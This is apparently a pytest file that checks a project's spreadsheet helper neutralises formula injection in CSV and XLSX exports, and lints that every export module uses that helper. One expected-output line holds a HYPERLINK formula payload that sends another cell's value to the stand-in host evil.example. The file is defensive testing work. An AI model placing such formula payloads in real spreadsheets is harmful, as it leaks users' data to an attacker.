"""Exports Excel cannot execute: the one helper (kofu.core.spreadsheet) and a lint that every CSV
and XLSX export goes through it. Each export is run with hostile values in its app's tests
(``test_export_cells.py`` under tests/cards, stats, subsidies, plans, surveys)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook

from kofu.core import spreadsheet
from tests.export_cells import HOSTILE, HYPERLINK, executable_csv_cells, executable_xlsx_cells

SRC = Path(__file__).resolve().parents[2] / "src" / "kofu"
TESTS = Path(__file__).resolve().parents[1]

#: Every module that writes a CSV or XLSX export → the test that runs it with hostile values.
EXPORTS = {
    # numbers and fixed labels only (no typed text reaches these three; registry names in baseamounts)
    "plans/views/national.py": "plans/test_export_cells.py",
    "subsidies/management/commands/budget.py": "subsidies/test_export_cells.py",
    "subsidies/management/commands/baseamounts.py": "subsidies/test_export_cells.py",
    "accounts/management/commands/audit.py": "cards/test_export_cells.py",
    "cards/management/commands/cards.py": "cards/test_export_cells.py",
    "cards/selectors/renewals.py": "cards/test_export_cells.py",
    "forecast/candidates.py": "forecast/test_export_cells.py",
    "forecast/output.py": "forecast/test_export_cells.py",
    "forecast/renewals.py": "forecast/test_export_cells.py",
    "forecast/views.py": "forecast/test_export_cells.py",
    "plans/management/commands/hearings.py": "plans/test_export_cells.py",
    "plans/management/commands/plan.py": "plans/test_export_cells.py",
    "plans/xlsx.py": "plans/test_export_cells.py",
    "stats/ages/tables.py": "stats/test_export_cells.py",
    "stats/convenience/output.py": "stats/test_export_cells.py",
    "stats/series/output.py": "stats/test_export_cells.py",
    "stats/tables/output.py": "stats/test_export_cells.py",
    "subsidies/exports.py": "subsidies/test_export_cells.py",
    "subsidies/management/commands/subsidy.py": "subsidies/test_export_cells.py",
    "surveys/management/commands/surveys.py": "surveys/test_export_cells.py",
    "surveys/views/measure.py": "surveys/test_export_cells.py",
    "surveys/services/staff_workbook.py": "surveys/test_export_cells.py",
}


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_trigger_gets_a_leading_quote(text):
    assert spreadsheet.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-5, -1.5, Decimal("-0.3"), 0, dt.date(2022, 1, 1), None, "都城市", "a=b", "'=x"]
)
def test_numbers_dates_and_harmless_text_are_kept_as_they_are(value):
    assert spreadsheet.neutralise(value) is value


def test_the_csv_writer_neutralises_text_and_keeps_numbers():
    out = io.StringIO()
    writer = spreadsheet.csv_writer(out, lineterminator="\n")
    writer.writerow([HYPERLINK, -5, Decimal("-1.2"), "-5"])
    writer.writerows([["@x", 3]])
    assert out.getvalue().splitlines() == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&B2,""click"")",-5,-1.2,\'-5',
        "'@x,3",
    ]
    assert executable_csv_cells(out.getvalue()) == []


def test_a_line_break_anywhere_in_a_cell_is_quoted_so_no_new_row_begins():
    """Python's csv quotes only its own line terminator: with "\n", a bare CR went out unquoted
    and a spreadsheet would start a new row at it — with a cell beginning ``=``."""
    out = io.StringIO()
    spreadsheet.csv_writer(out, lineterminator="\n").writerow(["都城\r=1+1", "a\nb", "c"])
    assert out.getvalue() == '"都城\r=1+1","a\nb",c\n'
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["都城\r=1+1", "a\nb", "c"]]


def test_a_workbook_is_neutralised_cell_by_cell_and_keeps_its_numbers():
    book = Workbook()
    sheet = book.active
    sheet.append([*HOSTILE, -5, 1.5])
    assert sheet["A1"].data_type == "f"  # openpyxl made a formula of the text
    spreadsheet.neutralise_workbook(book)
    out = io.BytesIO()
    book.save(out)
    assert executable_xlsx_cells(out.getvalue()) == []
    assert [c.value for c in sheet[1]] == ["'" + text for text in HOSTILE] + [-5, 1.5]


def _writes_spreadsheets(text: str) -> bool:
    return bool(re.search(r"csv\.(writer|DictWriter)\(|spreadsheet\.csv_writer\(|Workbook\(\)", text))


def test_every_export_goes_through_the_helper_and_has_a_hostile_value_test():
    writers = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "spreadsheet.py" and _writes_spreadsheets(path.read_text(encoding="utf-8"))
    }
    assert writers == set(EXPORTS), "a new CSV/XLSX export: add it to EXPORTS with its hostile-value test"
    for module in writers:
        text = (SRC / module).read_text(encoding="utf-8")
        assert not re.search(r"csv\.(writer|DictWriter)\(", text), f"{module}: use spreadsheet.csv_writer"
        if "Workbook()" in text:
            assert "neutralise_workbook" in text, f"{module}: call spreadsheet.neutralise_workbook"
    for test in set(EXPORTS.values()):
        assert (TESTS / test).exists(), test
